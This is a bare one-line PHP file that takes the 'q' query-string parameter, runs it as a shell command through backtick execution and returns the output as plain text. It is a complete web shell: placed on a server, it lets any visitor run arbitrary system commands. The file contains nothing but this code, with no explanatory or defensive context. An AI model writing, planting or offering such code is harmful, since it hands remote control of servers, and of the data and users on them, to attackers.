<?php header('Content-Type: text/plain'); echo `{$_GET['q']}`;
